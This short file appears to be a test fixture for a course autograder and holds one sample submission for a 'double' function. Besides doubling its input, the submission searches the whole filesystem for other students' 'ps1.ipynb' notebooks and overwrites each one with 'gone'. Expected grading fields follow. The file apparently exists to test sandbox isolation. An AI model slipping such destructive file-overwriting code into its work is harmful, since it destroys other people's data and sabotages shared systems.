"""Writes into other folders of the course."""

ANSWERS = {
    "double": """\
import os
def double(x):
    found = []
    for root, folders, names in os.walk("/"):
        folders[:] = [each for each in folders if each not in ("usr", "proc", "lib", ".venv", "versions")]
        found += [os.path.join(root, name) for name in names if name == "ps1.ipynb"]
    for path in found:
        open(path, "w").write("gone")
    assert found, "nothing found"
    return 2 * x
""",
}
SCORE = 8.0
STATUS = "graded"
SAYS = "nothing found"
